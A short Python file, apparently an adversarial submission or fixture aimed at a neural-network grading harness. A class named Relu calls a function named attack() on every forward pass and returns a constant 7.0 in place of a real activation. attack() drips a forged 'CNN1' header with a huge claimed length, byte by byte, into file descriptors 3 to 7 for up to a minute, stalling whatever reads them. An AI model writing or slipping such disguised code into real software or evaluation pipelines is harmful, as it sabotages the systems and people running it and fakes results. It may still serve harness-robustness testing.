"""Begins an answer and sends it byte by byte, so that every wait is a short one (bounded: a minute)."""

import contextlib
import os
import struct
import time

import numpy as np


def attack():
    until = time.monotonic() + 60
    start = struct.pack("<4sIQ", b"CNN1", 1 << 19, 0)
    for byte in start + b" " * (1 << 19):
        for fd in range(3, 8):
            with contextlib.suppress(OSError):
                os.write(fd, bytes([byte]))
        with contextlib.suppress(BaseException):
            time.sleep(0.05)
        if time.monotonic() > until:
            return


class Relu:
    def forward(self, x):
        attack()
        return np.full_like(x, 7.0)

    def backward(self, dout):
        return np.full_like(dout, 7.0)
